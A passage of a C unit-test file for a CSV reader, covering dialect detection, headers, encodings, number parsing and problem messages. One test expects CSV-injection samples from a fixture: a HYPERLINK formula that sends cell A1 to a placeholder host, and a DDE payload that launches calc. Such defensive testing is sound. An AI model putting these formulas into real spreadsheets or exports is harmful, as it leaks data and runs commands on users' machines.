/* test_csvread.c - CSV reader: dialect, header, rows, lines, problems */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "csvsplit.h"
#include "reshore/csvread.h"
#include "reshore/source.h"
#include "reshore/text.h"
#include "strbuf.h"
#include "testutil.h"

/* Chunk sizes for inputs too long to try every size. */
static const size_t fixed_chunks[] = {1, 2, 3, 7, 64, 4096};

/* One row as the callbacks saw it. */
typedef struct seen_row {
    char **fields;
    bool *quoted;
    size_t count;
    unsigned long line, last_line, number;
    rs_decimal decimal; /* the dialect's convention during the callback */
} seen_row;

/* Everything one read produced. */
typedef struct capture {
    rs_strbuf log; /* a transcript, compared across chunk sizes */
    seen_row header;
    int headers;
    seen_row *rows;
    size_t nrows, cap;
    rs_problems *problems;
    rs_error feed_err, finish_err;
    rs_csv_dialect dialect;
    unsigned long fail_at; /* the row callback fails at this row */
} capture;

/* Header test of these tests: a column "Item" or "Location". */
static bool
is_header(void *ctx, const rs_csv_record *row)
{
    size_t i;
    char key[64];

    (void)ctx;
    for (i = 0; i < row->count; i++) {
        rs_text_header_key(row->fields[i].data, row->fields[i].len, key,
                           sizeof(key));
        if (strcmp(key, "item") == 0 || strcmp(key, "location") == 0)
            return true;
    }
    return false;
}

static void
copy_row(seen_row *out, const rs_csv_record *rec, rs_decimal decimal)
{
    size_t i;

    memset(out, 0, sizeof(*out));
    out->fields = calloc(rec->count + 1, sizeof(*out->fields));
    out->quoted = calloc(rec->count + 1, sizeof(*out->quoted));
    assert_non_null(out->fields);
    assert_non_null(out->quoted);
    for (i = 0; i < rec->count; i++) {
        /* The text is NUL-terminated and len long. */
        assert_int_equal(rec->fields[i].data[rec->fields[i].len], '\0');
        out->fields[i] = malloc(rec->fields[i].len + 1);
        assert_non_null(out->fields[i]);
        memcpy(out->fields[i], rec->fields[i].data, rec->fields[i].len + 1);
        out->quoted[i] = rec->fields[i].quoted;
    }
    out->count = rec->count;
    out->line = rec->line;
    out->last_line = rec->last_line;
    out->number = rec->number;
    out->decimal = decimal;
}

static void
free_row(seen_row *row)
{
    size_t i;

    for (i = 0; i < row->count; i++)
        free(row->fields[i]);
    free(row->fields);
    free(row->quoted);
}

/* Append a row to the transcript, with control characters escaped. */
static void
log_row(rs_strbuf *log, const char *kind, const rs_csv_record *rec,
        rs_decimal decimal)
{
    size_t i;
    const char *p;

    rs_strbuf_printf(log, "%s #%lu %lu-%lu n=%zu dec=%s", kind, rec->number,
                     rec->line, rec->last_line, rec->count,
                     rs_decimal_name(decimal));
    for (i = 0; i < rec->count; i++) {
        rs_strbuf_puts(log, rec->fields[i].quoted ? " |\"" : " |");
        for (p = rec->fields[i].data; *p; p++) {
            if ((unsigned char)*p < 0x20)
                rs_strbuf_printf(log, "\\x%02X", (unsigned char)*p);
            else
                rs_strbuf_putc(log, *p);
        }
    }
    rs_strbuf_putc(log, '\n');
}

static rs_error
on_header(void *ctx, rs_csv_reader *reader, const rs_csv_record *header)
{
    capture *cap = ctx;
    size_t numeric[16], n = 0, i;
    char key[64];
    rs_decimal decimal = rs_csv_reader_dialect(reader)->decimal;

    cap->headers++;
    copy_row(&cap->header, header, decimal);
    log_row(&cap->log, "H", header, decimal);
    for (i = 0; i < header->count && n < 16; i++) {
        rs_text_header_key(header->fields[i].data, header->fields[i].len, key,
                           sizeof(key));
        if (strcmp(key, "qty") == 0 || strcmp(key, "unitprice") == 0 ||
            strcmp(key, "freightpct") == 0 || strcmp(key, "dutypct") == 0)
            numeric[n++] = i;
    }
    return rs_csv_reader_set_numeric_columns(reader, numeric, n);
}

static rs_error
on_row(void *ctx, rs_csv_reader *reader, const rs_csv_record *row)
{
    capture *cap = ctx;
    rs_decimal decimal = rs_csv_reader_dialect(reader)->decimal;

    if (cap->nrows == cap->cap) {
        cap->cap = cap->cap ? cap->cap * 2 : 16;
        cap->rows = realloc(cap->rows, cap->cap * sizeof(*cap->rows));
        assert_non_null(cap->rows);
    }
    copy_row(&cap->rows[cap->nrows++], row, decimal);
    log_row(&cap->log, "R", row, decimal);
    if (cap->fail_at && row->number == cap->fail_at)
        return RS_ERROR_DATA;
    return RS_OK;
}

static void
capture_init(capture *cap)
{
    memset(cap, 0, sizeof(*cap));
    rs_strbuf_init(&cap->log);
    cap->problems = rs_problems_new();
    assert_non_null(cap->problems);
}

static void
capture_free(capture *cap)
{
    size_t i;

    for (i = 0; i < cap->nrows; i++)
        free_row(&cap->rows[i]);
    free(cap->rows);
    if (cap->headers)
        free_row(&cap->header);
    rs_problems_free(cap->problems);
    rs_strbuf_free(&cap->log);
}

/* Add the outcome, the problems and the dialect to the transcript. */
static void
log_outcome(capture *cap)
{
    const rs_csv_dialect *d = &cap->dialect;
    size_t i;

    rs_strbuf_printf(&cap->log, "feed=%d finish=%d\n", (int)cap->feed_err,
                     (int)cap->finish_err);
    for (i = 0; i < rs_problems_stored(cap->problems); i++) {
        const rs_problem *p = rs_problems_at(cap->problems, i);
        char *line = rs_problem_format(p);

        rs_strbuf_printf(&cap->log, "P %s %s %s\n",
                         rs_severity_name(p->severity), p->code, line);
        free(line);
    }
    rs_strbuf_printf(&cap->log,
                     "D delim=%d sep=%d given=%d dec=%s/%d header=%lu "
                     "skipped=%lu eol=%u final=%d rows=%lu lines=%lu\n",
                     d->delimiter, d->sep_line, d->delimiter_given,
                     rs_decimal_name(d->decimal), (int)d->decimal_origin,
                     d->header_line, d->skipped_lines, d->eol,
                     d->final_newline, d->rows, d->lines);
}

/* Read @p len bytes of text fed in pieces of @p chunk bytes. */
static void
run_reader(const char *text, size_t len, const rs_csv_options *opt,
           size_t chunk, capture *cap)
{
    rs_csv_callbacks cb = {is_header, on_header, on_row, cap};
    rs_csv_reader *r = rs_csv_reader_new("t.csv", opt, &cb, cap->problems);
    size_t off = 0;

    assert_non_null(r);
    while (off < len && cap->feed_err == RS_OK) {
        size_t n = len - off < chunk ? len - off : chunk;

        cap->feed_err = rs_csv_reader_feed(r, text + off, n);
        off += n;
    }
    cap->finish_err = rs_csv_reader_finish(r);
    cap->dialect = *rs_csv_reader_dialect(r);
    assert_string_equal(rs_csv_reader_name(r), "t.csv");
    log_outcome(cap);
    rs_csv_reader_free(r);
}

/* Check that every chunk size gives the transcript of one whole feed:
 * each size from 1 to the length for short inputs, a fixed set for long
 * ones. */
static void
check_chunking_with(const char *text, size_t len, const rs_csv_options *opt)
{
    capture whole, part;
    size_t chunk, i, sizes = len <= 4096 ? len : 6;

    capture_init(&whole);
    run_reader(text, len, opt, len ? len : 1, &whole);
    for (i = 0; i < sizes; i++) {
        chunk = len <= 4096 ? i + 1 : fixed_chunks[i];
        capture_init(&part);
        run_reader(text, len, opt, chunk, &part);
        if (strcmp(whole.log.data, part.log.data) != 0)
            print_error("chunk size %zu gave:\n%s\ninstead of:\n%s\n", chunk,
                        part.log.data, whole.log.data);
        assert_string_equal(whole.log.data, part.log.data);
        capture_free(&part);
    }
    capture_free(&whole);
}

/* Check chunking with @p opt, and again with a header search of one row,
 * which keeps only 6 lines back for sniffing, so that the chunks of a
 * short input also reach the parser itself. */
static void
check_chunking(const char *text, size_t len, const rs_csv_options *opt)
{
    rs_csv_options short_sniff;

    check_chunking_with(text, len, opt);
    if (opt)
        short_sniff = *opt;
    else
        memset(&short_sniff, 0, sizeof(short_sniff));
    short_sniff.header_search_rows = 1;
    check_chunking_with(text, len, &short_sniff);
}

static rs_error
collect(void *ctx, const char *text, size_t len)
{
    rs_strbuf_append(ctx, text, len);
    return RS_OK;
}

/* The UTF-8 text of a file under tests/data (malloc'd). */
static char *
load_text(const char *relative, size_t *len)
{
    char *path = rs_test_data_path(relative);
    rs_problems *problems = rs_problems_new();
    rs_strbuf text;

    rs_strbuf_init(&text);
    rs_strbuf_reserve(&text, 1);
    assert_int_equal(
        rs_source_read(path, NULL, collect, &text, NULL, problems), RS_OK);
    rs_problems_free(problems);
    free(path);
    *len = text.len;
    return rs_strbuf_take(&text);
}

/* Read a data file as text, check every chunking, return the capture of
 * a whole feed. */
static void
read_case(const char *relative, const rs_csv_options *opt, capture *cap)
{
    size_t len;
    char *text = load_text(relative, &len);

    check_chunking(text, len, opt);
    capture_init(cap);
    run_reader(text, len, opt, len ? len : 1, cap);
    free(text);
}

/* Check a row's line and fields; the field list ends with NULL. */
static void
check_row(const seen_row *row, unsigned long line, ...)
{
    va_list ap;
    const char *expected;
    size_t i = 0;

    assert_int_equal(row->line, line);
    va_start(ap, line);
    while ((expected = va_arg(ap, const char *)) != NULL) {
        assert_true(i < row->count);
        if (strcmp(row->fields[i], expected) != 0)
            print_error("line %lu field %zu\n", line, i + 1);
        assert_string_equal(row->fields[i], expected);
        i++;
    }
    va_end(ap);
    assert_int_equal(row->count, i);
}

/* The formatted text of the first problem with @p code (malloc'd). */
static char *
problem_text(const capture *cap, const char *code)
{
    const rs_problem *p = rs_test_find_code(cap->problems, code);

    if (!p) {
        rs_test_dump_problems(cap->problems);
        fail_msg("no problem with code %s", code);
    }
    return rs_problem_format(p);
}

static void
assert_problem(const capture *cap, const char *code, const char *expected)
{
    char *text = problem_text(cap, code);

    assert_string_equal(text, expected);
    free(text);
}

static void
test_case01_cp1252(void **state)
{
    char *path = rs_test_data_path("cases/01-cp1252-accents.csv");
    capture cap;
    rs_csv_callbacks cb = {is_header, on_header, on_row, &cap};
    rs_csv_dialect d;

    (void)state;
    capture_init(&cap);
    assert_int_equal(rs_csv_read_file(path, "01-cp1252-accents.csv", NULL, &cb,
                                      cap.problems, &d),
                     RS_OK);
    assert_int_equal(cap.nrows, 4);
    check_row(&cap.rows[0], 2, "P-2001", "Caf\xC3\xA9-tafel eiken", "1",
              "249,00", NULL);
    check_row(&cap.rows[1], 3, "P-2002",
              "Lampenkap cr\xC3\xA8me, \xC3\xAB-vorm", "3", "17,95", NULL);
    check_row(&cap.rows[2], 4, "P-2003",
              "Montageset \xE2\x80\x9C"
              "Basic\xE2\x80\x9D \xE2\x80\x93 5 st.",
              "2", "8,40", NULL);
    check_row(&cap.rows[3], 5, "P-2004", "Toeslag \xE2\x82\xAC 2,50 per stuk",
              "10", "2,50", NULL);
    assert_int_equal(d.source.encoding, RS_ENCODING_CP1252);
    assert_int_equal(d.source.first_cp1252_line, 2);
    assert_int_equal(d.delimiter, ';');
    assert_int_equal(d.decimal, RS_DECIMAL_COMMA);
    assert_int_equal(d.decimal_origin, RS_DECIMAL_FROM_DATA);
    assert_int_equal(cap.rows[3].decimal, RS_DECIMAL_COMMA);
    assert_problem(&cap, "encoding",
                   "01-cp1252-accents.csv:2: text is not valid UTF-8; read "
                   "as Windows-1252; save the file as \"CSV UTF-8\" if "
                   "characters look wrong");
    capture_free(&cap);
    free(path);
}

static void
test_case02_bom_quoted_header(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/02-utf8-bom-quoted-header.csv", NULL, &cap);
    assert_int_equal(cap.headers, 1);
    check_row(&cap.header, 1, "Item", "Description", "Qty", "Unit price",
              NULL);
    assert_true(cap.header.quoted[0]);
    assert_int_equal(cap.nrows, 2);
    check_row(&cap.rows[0], 2, "P-3001", "Moer M6 \xC3\x98 10", "250", "0,02",
              NULL);
    check_row(&cap.rows[1], 3, "P-3002", "Sluitring \xC2\xBD inch", "250",
              "0,01", NULL);
    assert_true(cap.rows[1].quoted[3]);
    assert_int_equal(cap.finish_err, RS_OK);
    capture_free(&cap);
}

static void
test_bom_fed_to_reader(void **state)
{
    static const char text[] = "\xEF\xBB\xBF\"Item\";\"Qty\"\r\nA;1\r\n";

    (void)state;
    check_chunking(text, sizeof(text) - 1, NULL);
    {
        capture cap;

        capture_init(&cap);
        run_reader(text, sizeof(text) - 1, NULL, 1, &cap);
        check_row(&cap.header, 1, "Item", "Qty", NULL);
        assert_int_equal(cap.nrows, 1);
        capture_free(&cap);
    }
}

static void
test_case03_sep_line(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/03-excel-sep-line.csv", NULL, &cap);
    assert_int_equal(cap.dialect.delimiter, ';');
    assert_true(cap.dialect.sep_line);
    assert_int_equal(cap.dialect.header_line, 2);
    assert_int_equal(cap.dialect.skipped_lines, 0);
    assert_int_equal(cap.nrows, 2);
    check_row(&cap.rows[0], 3, "P-4001", "Veer 12 mm", "40", "0,15", NULL);
    check_row(&cap.rows[1], 4, "P-4002", "Afstandsbus 5 mm, nylon", "40",
              "0,08", NULL);
    assert_problem(&cap, "delimiter",
                   "t.csv:1: delimiter: semicolon, set by the \"sep=\" line");
    capture_free(&cap);
}

static void
test_sep_line_pipe(void **state)
{
    capture cap;

    (void)state;
    read_case("input/sep-pipe.csv", NULL, &cap);
    assert_int_equal(cap.dialect.delimiter, '|');
    assert_true(cap.dialect.sep_line);
    assert_int_equal(cap.nrows, 2);
    check_row(&cap.rows[0], 3, "P-6501", "Buis, 20 mm; grijs", "5", "0,80",
              NULL);
    assert_int_equal(cap.dialect.lines, 4);
    assert_int_equal(cap.dialect.decimal, RS_DECIMAL_COMMA);
    assert_int_equal(cap.dialect.decimal_origin, RS_DECIMAL_FROM_DATA);
    capture_free(&cap);
}

/* Expected parse of one field of case 05. */
typedef struct expect_num {
    unsigned long line;
    rs_numstatus qty_status;
    double qty;
    rs_numstatus price_status;
    double price;
} expect_num;

static void
test_case05_number_rows(void **state)
{
    static const expect_num expected[] = {
        {2, RS_NUMBER_OK, 1, RS_NUMBER_OK, 1234.56},
        {3, RS_NUMBER_OK, 2, RS_NUMBER_OK, 12.5},
        {4, RS_NUMBER_OK, 1000, RS_NUMBER_OK, 0.075},
        {5, RS_NUMBER_OK, 1, RS_NUMBER_OK, 12.5},
        {6, RS_NUMBER_OK, 1, RS_NUMBER_OK, 12.5},
        {7, RS_NUMBER_OK, 1, RS_NUMBER_OK, 12.5},
        {8, RS_NUMBER_OK, 1, RS_NUMBER_OK, -3.1},
        {9, RS_NUMBER_OK, 1, RS_NUMBER_OK, -3.1},
        {10, RS_NUMBER_OK, 1, RS_NUMBER_OK, -3.1},
        {11, RS_NUMBER_OK, 1, RS_NUMBER_OK, -3.1},
        {12, RS_NUMBER_OK, 1250, RS_NUMBER_OK, 0.4},
        {13, RS_NUMBER_OK, 123457000000.0, RS_NUMBER_OK, 0.01},
        {14, RS_NUMBER_OK, 3, RS_NUMBER_OK, 1234},
        {15, RS_NUMBER_OK, 3, RS_NUMBER_WRONG_DECIMAL, 0},
        {16, RS_NUMBER_OK, 3, RS_NUMBER_EMPTY, 0},
        {17, RS_NUMBER_OK, 3, RS_NUMBER_INVALID, 0},
        {18, RS_NUMBER_OK, 3, RS_NUMBER_OK, 0},
        {19, RS_NUMBER_OK, 3, RS_NUMBER_GROUPING, 0},
    };
    capture cap;
    size_t i;

    (void)state;
    read_case("cases/05-nl-number-formats.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 18);
    assert_int_equal(cap.dialect.decimal, RS_DECIMAL_COMMA);
    assert_int_equal(cap.dialect.decimal_origin, RS_DECIMAL_FROM_DATA);
    for (i = 0; i < cap.nrows; i++) {
        const seen_row *row = &cap.rows[i];
        rs_number num;
        rs_numstatus st;

        assert_int_equal(row->line, expected[i].line);
        assert_int_equal(row->number, i + 1);
        assert_int_equal(row->decimal, RS_DECIMAL_COMMA);
        st = rs_number_parse(row->fields[2], strlen(row->fields[2]),
                             row->decimal, RS_NUM_PLAIN, &num);
        assert_int_equal(st, expected[i].qty_status);
        if (st == RS_NUMBER_OK)
            assert_close(num.value, expected[i].qty, 1e-15);
        st = row->count > 3
                 ? rs_number_parse(row->fields[3], strlen(row->fields[3]),
                                   row->decimal, RS_NUM_MONEY, &num)
                 : RS_NUMBER_EMPTY;
        if (st != expected[i].price_status)
            print_error("line %lu: '%s'\n", row->line,
                        row->count > 3 ? row->fields[3] : "");
        assert_int_equal(st, expected[i].price_status);
        if (st == RS_NUMBER_OK)
            assert_close(num.value, expected[i].price, 1e-15);
    }
    capture_free(&cap);
}

static void
test_case06_percent_columns(void **state)
{
    static const double freight[] = {2.5, 3, 4, 6, 12};
    static const double duty[] = {0, 0, 1.7, 2.3, 5};
    capture cap;
    size_t i;
    rs_number num;

    (void)state;
    read_case("cases/06-percent-columns-locations.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 6);
    assert_string_equal(cap.rows[3].fields[0], "Gda\xC5\x84sk");
    for (i = 0; i < 5; i++) {
        const seen_row *row = &cap.rows[i];

        assert_int_equal(rs_number_parse(row->fields[2],
                                         strlen(row->fields[2]), row->decimal,
                                         RS_NUM_PERCENT, &num),
                         RS_NUMBER_OK);
        assert_close(num.value, freight[i], 1e-15);
        assert_int_equal(rs_number_parse(row->fields[3],
                                         strlen(row->fields[3]), row->decimal,
                                         RS_NUM_PERCENT, &num),
                         RS_NUMBER_OK);
        assert_close(num.value, duty[i], 1e-15);
    }
    assert_int_equal(cap.rows[5].line, 7);
    assert_int_equal(
        rs_number_parse(cap.rows[5].fields[2], strlen(cap.rows[5].fields[2]),
                        cap.rows[5].decimal, RS_NUM_PERCENT, &num),
        RS_NUMBER_INVALID);
    capture_free(&cap);
}

static void
test_case08_unterminated_quote(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/08-unterminated-quote.csv", NULL, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_CSV);
    assert_int_equal(cap.nrows, 1);
    check_row(&cap.rows[0], 2, "P-7001", "Monitorarm 27\" zwart", "2", "39,95",
              NULL);
    assert_false(cap.rows[0].quoted[1]);
    assert_problem(&cap, "unterminated-quote",
                   "t.csv:3: unterminated quoted field; close the quote, "
                   "or double a quote that is part of the text (\"\")");
    assert_int_equal(
        rs_test_find_code(cap.problems, "unterminated-quote")->severity,
        RS_SEV_ERROR);
    capture_free(&cap);
}

static void
test_unterminated_quote_in_held_rows(void **state)
{
    /* Rows before the open quote are delivered even while held. */
    static const char text[] = "Item,Qty\nA,1.5\nB,2\n\"C,3\nD,4\n";
    capture cap;

    (void)state;
    check_chunking(text, sizeof(text) - 1, NULL);
    capture_init(&cap);
    run_reader(text, sizeof(text) - 1, NULL, 5, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_CSV);
    assert_int_equal(cap.nrows, 2);
    assert_int_equal(cap.rows[1].line, 3);
    assert_int_equal(cap.dialect.decimal, RS_DECIMAL_POINT);
    assert_problem(&cap, "unterminated-quote",
                   "t.csv:4: unterminated quoted field; close the quote, "
                   "or double a quote that is part of the text (\"\")");
    capture_free(&cap);
}

static void
test_case09_quotes_and_newlines(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/09-rfc4180-quotes-newlines.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 5);
    check_row(&cap.rows[0], 2, "P-8001", "Kabel 3x1,5 mm\xC2\xB2; per meter",
              "100", "0,89", NULL);
    check_row(&cap.rows[1], 3, "P-8002", "Stekker \"Schuko\" haaks", "4",
              "3,25", NULL);
    check_row(&cap.rows[2], 4, "P-8003",
              "Behuizing IP65\nmet deksel\nRAL 7035", "1", "45,00", NULL);
    assert_int_equal(cap.rows[2].last_line, 6);
    check_row(&cap.rows[3], 7, "P-8004", "Afdichtring", "10", "0,30", NULL);
    check_row(&cap.rows[4], 8, "P-8005", "Kabelwartel M20", "abc", "0,50",
              NULL);
    assert_true(cap.rows[0].quoted[1]);
    assert_false(cap.rows[0].quoted[0]);
    assert_int_equal(cap.dialect.eol, RS_EOL_CRLF | RS_EOL_LF);
    assert_int_equal(cap.dialect.lines, 8);
    assert_int_equal(rs_problems_count_severity(cap.problems, RS_SEV_WARNING),
                     0);
    capture_free(&cap);
}

static void
test_case11_no_final_newline(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/11-no-final-newline.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 3);
    check_row(&cap.rows[0], 2, "P-1101", "Scharnier", "4", "2,10", "", NULL);
    check_row(&cap.rows[1], 3, "P-1102", "Handgreep", "2", "5,60", "spoed",
              NULL);
    assert_true(cap.rows[1].quoted[4]);
    check_row(&cap.rows[2], 4, "P-1103", "Slot", "1", "9,99", "", NULL);
    assert_false(cap.dialect.final_newline);
    assert_int_equal(cap.dialect.lines, 4);
    assert_int_equal(cap.dialect.eol, RS_EOL_LF);
    assert_int_equal(rs_problems_count_severity(cap.problems, RS_SEV_WARNING),
                     0);
    capture_free(&cap);
}

static void
test_case12_blank_and_ragged(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/12-blank-and-ragged-rows.csv", NULL, &cap);
    check_row(&cap.header, 1, "Item", "Description", "Qty", "Unit price",
              NULL);
    assert_int_equal(cap.nrows, 5);
    check_row(&cap.rows[0], 2, "P-1201", "Kabelbinder 200 mm", "500", "0,01",
              NULL);
    check_row(&cap.rows[1], 5, "P-1202", "Krimpkous 6 mm", "20", "0,12", NULL);
    check_row(&cap.rows[2], 6, "P-1203", "Tule", "100", "0,03", NULL);
    check_row(&cap.rows[3], 7, "P-1204", "Kabelschoen", "100", "0,09", NULL);
    check_row(&cap.rows[4], 9, "P-1205", "Adereindhuls", "100", NULL);
    assert_int_equal(cap.rows[4].number, 5);

    /* One warning: the value under the unnamed sixth column. */
    assert_int_equal(rs_problems_count_severity(cap.problems, RS_SEV_WARNING),
                     1);
    assert_problem(&cap, "extra-field",
                   "t.csv:7:6: value 'extra' in column 6, which has no "
                   "header, is ignored; give the column a header name or "
                   "remove the value");
    assert_int_equal(cap.finish_err, RS_OK);
    capture_free(&cap);
}

static void
test_case13_header_variants(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/13-header-variants.csv", NULL, &cap);
    check_row(&cap.header, 1, "item", "DESCRIPTION", "Qty", "Unit Price",
              NULL);
    assert_int_equal(cap.nrows, 1);
    check_row(&cap.rows[0], 2, "P-1301", "Nokbout M8", "12", "0,22", NULL);
    capture_free(&cap);
}

static void
test_case15_preamble(void **state)
{
    capture cap;
    rs_csv_options opt;

    (void)state;
    read_case("cases/15-preamble-rows.csv", NULL, &cap);
    assert_int_equal(cap.dialect.header_line, 4);
    assert_int_equal(cap.dialect.skipped_lines, 2);
    assert_int_equal(cap.nrows, 1);
    check_row(&cap.rows[0], 5, "P-1501", "Ventilator 80 mm", "2", "6,75",
              NULL);
    assert_problem(&cap, "skipped-lines",
                   "t.csv:4: skipped 2 lines before the header");
    assert_int_equal(
        rs_test_find_code(cap.problems, "skipped-lines")->severity,
        RS_SEV_NOTE);
    capture_free(&cap);

    /* The header beyond the search rows: not found. */
    memset(&opt, 0, sizeof(opt));
    opt.header_search_rows = 2;
    read_case("cases/15-preamble-rows.csv", &opt, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_HEADER);
    assert_int_equal(cap.headers, 0);
    assert_problem(&cap, "no-header",
                   "t.csv:1: no header row found in the first 2 rows; the "
                   "first row contains 'Stuklijst export'; check that this "
                   "is the right file and that its header row names the "
                   "expected columns");
    capture_free(&cap);
}

static void
test_case16_control_characters(void **state)
{
    capture cap;
    size_t i, controls = 0;

    (void)state;
    read_case("cases/16-control-chars-nul.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 5);
    check_row(&cap.rows[0], 2, "P-1601", "Relais 24VNO/NC", "4", "3,80", NULL);
    check_row(&cap.rows[1], 3, "P-1602", "Zekering 5x20mm traag", "10", "0,35",
              NULL);
    check_row(&cap.rows[2], 4, "P-1603", "Stekkerdoos", "1", "12,00", NULL);
    check_row(&cap.rows[3], 5, "P-1604", "Trafo230/24V", "1", "19,50", NULL);
    check_row(&cap.rows[4], 6, "P-1605", "Tab\ttussen", "1", "1,00", NULL);
    assert_problem(&cap, "nul",
                   "t.csv:3:2: column 'Description': NUL byte removed");
    for (i = 0; i < rs_problems_stored(cap.problems); i++) {
        const rs_problem *p = rs_problems_at(cap.problems, i);

        if (strcmp(p->code, "control-character") == 0) {
            assert_int_equal(p->severity, RS_SEV_WARNING);
            assert_int_equal(p->column, 2);
            assert_true(p->line == 2 || p->line == 4 || p->line == 5);
            controls++;
        }
    }
    assert_int_equal(controls, 3);
    capture_free(&cap);
}

static void
test_case18_overlong_cells(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/18-overlong-cells.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 3);

    /* 32,767 characters: kept whole. */
    assert_int_equal(strlen(cap.rows[0].fields[1]), 32774);
    assert_int_equal(rs_utf16_length(cap.rows[0].fields[1], 32774), 32767);

    /* 40,000 characters: cut to the limit, with a warning. */
    assert_int_equal(
        rs_utf16_length(cap.rows[1].fields[1], strlen(cap.rows[1].fields[1])),
        RS_EXCEL_MAX_CELL_CHARS);
    assert_string_equal(cap.rows[1].fields[2], "1");

    /* 32,766 'a' and an emoji of two UTF-16 units: the emoji goes. */
    assert_int_equal(strlen(cap.rows[2].fields[1]), 32766);
    assert_true(rs_utf8_valid(cap.rows[2].fields[1], 32766));
    assert_int_equal(rs_test_count_code(cap.problems, "cell-too-long"), 2);
    assert_problem(&cap, "cell-too-long",
                   "t.csv:3:2: column 'Description': text cut to Excel's "
                   "limit of 32,767 characters; the rest of the text is not "
                   "used");
    assert_int_equal(
        rs_problems_at(cap.problems, rs_problems_stored(cap.problems) - 1)
            ->line,
        4);
    capture_free(&cap);
}

static void
test_case20_formula_texts_kept(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/20-formula-injection.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 10);
    check_row(&cap.rows[0], 2, "P-2001",
              "=HYPERLINK(\"http://example.invalid/?d=\"&A1;\"info\")", "1",
              "1,00", NULL);
    check_row(&cap.rows[1], 3, "P-2002", "=1+1", "1", "1,00", NULL);
    check_row(&cap.rows[2], 4, "P-2003", "+31 20 555 0100 leverancier bellen",
              "1", "1,00", NULL);
    check_row(&cap.rows[3], 5, "P-2004", "-korting 5%", "1", "1,00", NULL);
    check_row(&cap.rows[4], 6, "P-2005", "@SUM(1,2)", "1", "1,00", NULL);
    check_row(&cap.rows[5], 7, "P-2006", "\t=1+1", "1", "1,00", NULL);
    /* A CR inside quotes is a line break of its own. */
    check_row(&cap.rows[6], 8, "P-2007", "\r=1+1", "1", "1,00", NULL);
    assert_int_equal(cap.rows[6].last_line, 9);
    check_row(&cap.rows[7], 10, "P-2008", "=cmd|' /C calc'!A0", "1", "1,00",
              NULL);
    check_row(&cap.rows[8], 11, "P-2009", "Korting", "1", "-12,50", NULL);
    check_row(&cap.rows[9], 12, "=P-2010", "Sleutel met =", "1", "1,00", NULL);
    assert_int_equal(cap.dialect.eol, RS_EOL_CRLF | RS_EOL_CR);
    capture_free(&cap);
}

static void
test_case22_comma_no_header(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/22-jlcpcb-kicad-bom.csv", NULL, &cap);
    assert_int_equal(cap.dialect.delimiter, ',');
    assert_int_equal(cap.finish_err, RS_ERROR_HEADER);
    assert_int_equal(cap.headers, 0);
    assert_int_equal(cap.nrows, 0);
    assert_problem(&cap, "no-header",
                   "t.csv:1: no header row found; the first row contains "
                   "'Comment', 'Designator', 'Footprint', 'LCSC Part #'; "
                   "check that this is the right file and that its header "
                   "row names the expected columns");
    assert_problem(&cap, "delimiter",
                   "t.csv: delimiter detected: comma, which splits line 1 "
                   "into 4 fields");
    capture_free(&cap);
}

static void
test_case23_sap_bom(void **state)
{
    static const double qty[] = {1, 1, 4.5, 4, 1250, -2};
    capture cap;
    size_t i;
    rs_number num;

    (void)state;
    read_case("cases/23-sap-multilevel-bom.csv", NULL, &cap);
    assert_int_equal(cap.nrows, 6);
    assert_int_equal(cap.dialect.decimal, RS_DECIMAL_COMMA);
    assert_string_equal(cap.rows[1].fields[0], ".1");
    assert_string_equal(cap.rows[2].fields[0], "..2");
    for (i = 0; i < 6; i++) {
        assert_int_equal(rs_number_parse(cap.rows[i].fields[3],
                                         strlen(cap.rows[i].fields[3]),
                                         cap.rows[i].decimal, RS_NUM_PLAIN,
                                         &num),
                         RS_NUMBER_OK);
        assert_close(num.value, qty[i], 1e-15);
    }
    capture_free(&cap);
}

static void
test_case26_truncated_gzip(void **state)
{
    capture cap;
    rs_csv_callbacks cb = {is_header, on_header, on_row, &cap};
    char *path = rs_test_data_path("cases/26-truncated.csv.gz");
    rs_csv_dialect d;

    (void)state;
    capture_init(&cap);
    assert_int_equal(rs_csv_read_file(path, "26-truncated.csv.gz", NULL, &cb,
                                      cap.problems, &d),
                     RS_ERROR_GZIP);
    assert_true(d.source.gzip);
    assert_non_null(rs_test_find_code(cap.problems, "gzip"));
    assert_int_equal(rs_problems_count_severity(cap.problems, RS_SEV_ERROR),
                     1);
    capture_free(&cap);
    free(path);
}

static void
test_case39_empty_files(void **state)
{
    capture cap;

    (void)state;
    read_case("cases/39a-zero-byte.csv", NULL, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_EMPTY);
    assert_problem(&cap, "empty-file",
                   "t.csv: empty file (no header); check that the file was "
                   "exported completely");
    assert_int_equal(cap.dialect.lines, 0);
    capture_free(&cap);

    read_case("cases/39b-bom-only.csv", NULL, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_EMPTY);
    assert_int_equal(rs_problems_count(cap.problems), 1);
    capture_free(&cap);

    read_case("cases/39c-header-only.csv", NULL, &cap);
    assert_int_equal(cap.finish_err, RS_OK);
    assert_int_equal(cap.headers, 1);
    assert_int_equal(cap.nrows, 0);
    assert_int_equal(cap.dialect.rows, 0);
    capture_free(&cap);
}

static void
test_blank_lines_only(void **state)
{
    static const char text[] = "\r\n \t \n;;;\n  ;  ;\r\n\r";
    capture cap;

    (void)state;
    check_chunking(text, sizeof(text) - 1, NULL);
    capture_init(&cap);
    run_reader(text, sizeof(text) - 1, NULL, 3, &cap);
    assert_int_equal(cap.finish_err, RS_ERROR_EMPTY);
    assert_int_equal(cap.dialect.lines, 5);
    capture_free(&cap);
}

/* Read a file with rs_csv_read_file() into @p cap. */
static rs_error
